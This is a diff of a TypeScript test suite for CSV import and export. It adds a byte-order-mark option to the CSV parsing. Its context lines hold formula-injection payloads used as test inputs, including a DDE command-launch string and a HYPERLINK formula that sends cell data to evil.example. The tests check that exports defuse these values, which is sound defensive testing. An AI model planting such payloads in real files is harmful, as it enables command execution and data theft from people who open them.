@@ -81,6 +81,7 @@ for (const engine of testEngines()) {
       const first = await importUnits(ctx, { file })
       assert.deepEqual([first.imported, first.unchanged, first.rejected], [2, 0, 1])
       const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'repeated.rejects.csv')), {
+        bom: true,
         columns: true,
       }) as Array<Record<string, string>>
       assert.deepEqual(
@@ -98,6 +99,7 @@ for (const engine of testEngines()) {
       fs.writeFileSync(file, `${HEADER}\n=cmd|' /C calc'!A0,ares-mpro,2025-01-02,,,direct,,,\n`)
       await importUnits(ctx, { file })
       const [formula] = parse(fs.readFileSync(path.join(database.dataDir, 'repeated.rejects.csv')), {
+        bom: true,
         columns: true,
       }) as Array<Record<string, string>>
       assert.equal(formula?.serial, `'=cmd|' /C calc'!A0`)
@@ -214,6 +216,7 @@ for (const engine of testEngines()) {
       const summary = await importCustomers(ctx, { file: customers })
       assert.deepEqual([summary.imported, summary.rejected], [1, 2])
       const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'odd-customers.rejects.csv')), {
+        bom: true,
         columns: true,
       }) as Array<Record<string, string>>
       assert.deepEqual(
@@ -233,6 +236,7 @@ for (const engine of testEngines()) {
       const summary = await importUnits(ctx, { file })
       assert.deepEqual([summary.imported, summary.unchanged, summary.rejected], [3, 0, 3])
       const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'units.rejects.csv')), {
+        bom: true,
         columns: true,
       }) as Array<Record<string, string>>
       assert.deepEqual(
@@ -269,6 +273,7 @@ for (const engine of testEngines()) {
       const summary = await importUnits(ctx, { file })
       assert.deepEqual([summary.imported, summary.rejected], [1, 2])
       const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'old-dates.rejects.csv')), {
+        bom: true,
         columns: true,
       }) as Array<Record<string, string>>
       assert.deepEqual(
@@ -373,7 +378,9 @@ for (const engine of testEngines()) {
       const rejectsPath = path.join(database.dataDir, 'quoted.rejects.csv')
       const summary = await importUnits(ctx, { file, rejectsPath })
       assert.deepEqual([summary.imported, summary.unchanged, summary.rejected], [2, 0, 1])
-      const rejects = parse(fs.readFileSync(rejectsPath), { columns: true }) as Array<Record<string, string>>
+      const rejects = parse(fs.readFileSync(rejectsPath), { bom: true, columns: true }) as Array<
+        Record<string, string>
+      >
       assert.deepEqual(
         rejects.map((r) => [r.model, r.line, r.field]),
         [['Poseidon, C PRO', '3', 'model']],
@@ -422,7 +429,7 @@ for (const engine of testEngines()) {
       fs.writeFileSync(dealers, 'name,kind,country,email\n=1+1 Optics,dealer,DE,formula.dealer@example.com\n')
       assert.equal((await importDealers(ctx, { file: dealers })).imported, 1)
 
-      const customers = parse(await exportToString(ctx, 'customers'), { columns: true }) as Record<
+      const customers = parse(await exportToString(ctx, 'customers'), { bom: true, columns: true }) as Record<
         string,
         string
       >[]
@@ -431,7 +438,7 @@ for (const engine of testEngines()) {
         [row?.name, row?.phone, row?.street, row?.city],
         [`'=HYPERLINK("http://evil.example/?leak="&A2,"Anna")`, "'+1 555 0100", "'@SUM(A1)", "'-Bonn"],
       )
-      const dealerRows = parse(await exportToString(ctx, 'dealers'), { columns: true }) as Record<
+      const dealerRows = parse(await exportToString(ctx, 'dealers'), { bom: true, columns: true }) as Record<
         string,
         string
       >[]
